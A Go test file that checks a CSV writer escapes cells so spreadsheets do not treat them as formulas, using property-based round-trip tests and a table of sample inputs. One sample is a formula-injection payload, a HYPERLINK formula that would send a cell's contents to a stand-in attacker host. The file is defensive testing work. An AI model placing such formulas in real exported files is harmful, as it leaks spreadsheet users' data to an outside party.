package csvfile_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"roster/internal/csvfile"
)

func TestATableReadsAsItWasWritten(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		columns := rapid.IntRange(2, 5).Draw(t, "columns")
		cell := rapid.OneOf(rapid.String(), rapid.StringOf(rapid.RuneFrom([]rune("a,\"\n\r\t =+-@'1."))))
		var rows [][]string
		f := csvfile.New(make([]string, columns)...)
		for range rapid.IntRange(0, 5).Draw(t, "rows") {
			row := rapid.SliceOfN(cell, columns, columns).Draw(t, "row")
			rows = append(rows, row)
			f.Add(row...)
		}
		read, err := csv.NewReader(bytes.NewReader(f.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, cell := range row {
				cell = strings.ReplaceAll(cell, "\r\n", "\n") // as encoding/csv reads it
				got := read[i+1][j]
				if got != cell && got != "'"+cell {
					t.Fatalf("%q reads as %q", cell, got)
				}
				if got == cell && strings.ContainsAny(strings.TrimLeft(got, " ")+" ", "=+-@\t\r") &&
					strings.IndexAny(strings.TrimLeft(got, " "), "=+@\t\r") == 0 {
					t.Fatalf("%q is a formula", got)
				}
			}
		}
	})
}

func TestNothingRunsInASpreadsheet(t *testing.T) {
	t.Parallel()
	for cell, want := range map[string]string{
		`=HYPERLINK("http://evil.example?"&A1)`: `"'=HYPERLINK(""http://evil.example?""&A1)"`,
		"+1 (555) 0100":                         "'+1 (555) 0100",
		"-2+3":                                  "'-2+3",
		"@SUM(A1)":                              "'@SUM(A1)",
		"\t=1":                                  "\"'\t=1\"",
		"  =1":                                  "'  =1",
		"＝1":                                    "'＝1",
		"-12.5":                                 "-12.5",
		"45.5":                                  "45.5",
		"-":                                     "'-",
		"-1.":                                   "'-1.",
		"Ada, Countess":                         `"Ada, Countess"`,
		"two\nlines":                            "\"two\nlines\"",
		"a=b":                                   "a=b",
		"":                                      "",
	} {
		f := csvfile.New("cell")
		f.Add(cell)
		if got := string(f.Bytes()); got != "cell\r\n"+want+"\r\n" {
			t.Errorf("%q is written %q", cell, got)
		}
	}
}
